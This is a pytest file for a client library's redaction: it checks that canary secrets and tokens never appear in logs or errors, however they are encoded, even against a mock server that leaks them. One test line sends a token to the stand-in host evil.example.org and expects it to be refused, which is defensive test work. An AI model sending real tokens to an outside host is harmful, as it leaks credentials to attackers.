"""Canaries: a run against a target that gives every secret away writes none of them, however they are spelt."""

from __future__ import annotations

import base64
import html
import json
from collections.abc import Iterator
from urllib.parse import quote, quote_plus

import pytest
from client_line import MARK, Line, MakeLine
from little_target import LittleTarget, Reply

from kandykit.calls import OrderKind
from kandykit.cleanup import restore
from kandykit.errors import NoToken, Refused
from kandykit.exchange import Credential, Intent
from kandykit.redaction import Redactor
from kandykit.wire import Outgoing

SECRETS = {"acme": 'canary-1/"Of+Acme\\=ü', "other": "canary2PlainOfOther"}


def in_text(secret: str) -> Iterator[str]:
    """A secret as it could be written down as text."""
    yield from (secret, quote(secret), quote(secret, safe=""), quote_plus(secret), html.escape(secret))
    yield from (json.dumps(secret)[1:-1], json.dumps(secret, ensure_ascii=False)[1:-1])
    for digits in ("02X", "02x"):
        yield "".join(f"%{octet:{digits}}" for octet in secret.encode())


def in_base64(secret: str, *, whole: bool) -> Iterator[str]:
    """A secret inside base64; unless ``whole`` without the characters that hold bits of what stands around it."""
    octets = secret.encode()
    for before in (b"", b"a", b"ab", b"acme:", b"other:"):
        for encode in (base64.b64encode, base64.urlsafe_b64encode):
            code = encode(before + octets).decode()
            first, last = -(-len(before) * 8 // 6), (len(before) + len(octets)) * 8 // 6
            yield code if whole else code[first:last]


def spellings(secret: str) -> Iterator[bytes]:
    """Every form in which a secret is searched for, those inside JSON inside JSON included."""
    for text in (*in_text(secret), *in_base64(secret, whole=False)):
        yield text.encode()
        yield json.dumps(text)[1:-1].encode()


class Gossip(LittleTarget):
    """Tells everything it knows, in every answer."""

    def answer(self, method: str, path: str, headers: dict[str, str], body: bytes) -> Reply:
        true = super().answer(method, path, headers, body)
        known = [headers.get("authorization", ""), body.decode("utf-8", "replace"), *self.secrets.values()]
        known += [*self.tokens, *(p for holding in self.holdings.values() for p in holding.subscribers.values())]
        told = [spelt for word in known if word for spelt in (*in_text(word), *in_base64(word, whole=True))]
        true.headers += tuple(("x-gossip", quote(word, safe=" ")) for word in known)
        true.headers += (("location", f"/x?{quote(known[-1])}"), ("set-cookie", f"sid={quote(known[-1])}; Path=/"))
        if isinstance(true.body, dict) and true.status != 200:
            true.body = {**true.body, "gossip": told, "info": " ".join(told), "password": known[-1]}
        return true


@pytest.fixture
def gossip(make_line: MakeLine) -> Line:
    return make_line(Gossip(SECRETS))


def secrets_of(line: Line) -> set[str]:
    sent = {headers["authorization"] for _, _, headers, _ in line.target.seen if "authorization" in headers}
    return {*SECRETS.values(), *line.target.tokens, *(word.partition(" ")[2] for word in sent)} - {""}


def test_nothing_that_is_written_or_shown_holds_a_secret(gossip: Line) -> None:
    line, passwords, said = gossip, set(), []
    for account in line.client.accounts:
        line.send(line.binding.read_inventory(), account=account)
        line.send(line.binding.place_order(OrderKind.INCREMENT, 3), account=account)
        for number in range(3):
            line.send(line.binding.create_subscriber(f"kk-{MARK}-{number}@example.com"), account=account)
            passwords |= {p for h in line.target.holdings.values() for p in h.subscribers.values()}
        line.send(line.binding.place_order(OrderKind.INCREMENT, -1 - 2**40), account=account)
        token = line.client.token(account) or ""
        for scheme, credential in (
            ("Bearer", Credential.LIVE),
            ("Basic", Credential.OTHER_SCHEME),
            ("", Credential.UNKNOWN),
        ):
            outgoing = line.binding.read_orders()
            headers = (("authorization", f"{scheme} {token}".strip()), ("cookie", f"t={token}"), ("x-token", token))
            intent = Intent(account=account, credential=credential)
            line.client.send(Outgoing("GET", f"{outgoing.url}?access_token={token}&x={token}", headers), intent)
        basic = base64.b64encode(f"{account}:{line.target.secrets['acme']}".encode()).decode()
        line.send(
            Outgoing("GET", line.binding.base_url + "/inventory", (("authorization", f"Basic {basic}"),)),
            credential=Credential.CLIENT,
        )
        line.target.instead.append(Reply(raw=b""))
        line.send(line.binding.read_inventory(), account=account)
        line.client.expire(account)
        line.client.send_together([(line.binding.read_inventory(), Intent(account=account))] * 3)
        line.client.expire(account)
        line.target.instead.append(Reply(401, {"error": f"not {SECRETS['acme']}", "token": token}))
        with pytest.raises(NoToken) as no_token:
            line.send(line.binding.read_inventory(), account=account)
        said.append(str(no_token.value))
        with pytest.raises(Refused) as refused:
            line.send(Outgoing("GET", f"http://evil.example.org/?token={token}"), credential=Credential.NONE)
        said.append(str(refused.value))
    said += restore(line.client, line.ledger, line.binding, clock=line.clock, sleep=line.clock.sleep)
    written = line.journal.path.read_bytes() + "\n".join([*said, repr(line.seen)]).encode("utf-8", "surrogateescape")
    assert len(passwords) == 6
    assert len(line.seen) > 40
    for secret in secrets_of(line) | passwords:
        assert len(secret) >= 6
        for spelt in spellings(secret):
            where = written.find(spelt)
            assert spelt not in written, f"{spelt!r} of {secret!r}: {written[max(0, where - 150) : where + 150]!r}"
    # What is not secret is still there, and equal secrets can still be told from different ones.
    assert b"KPN-VoiceVideo-C" in written
    shown = {reply.subscriber.password for _, _, reply in line.seen if reply.subscriber and reply.subscriber.password}
    assert len(shown) == 6


def test_the_search_would_find_them(gossip: Line, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Redactor, "text", lambda _, text, learn=False: text)
    gossip.send(gossip.binding.read_orders(), credential=Credential.NONE)
    written = gossip.journal.path.read_bytes()
    for secret in SECRETS.values():
        for spelt in spellings(secret):
            # A header holds no line breaks or characters beyond ASCII, so not every form is told in this one answer.
            assert spelt in written or not spelt.isascii() or b"\\" in spelt, spelt
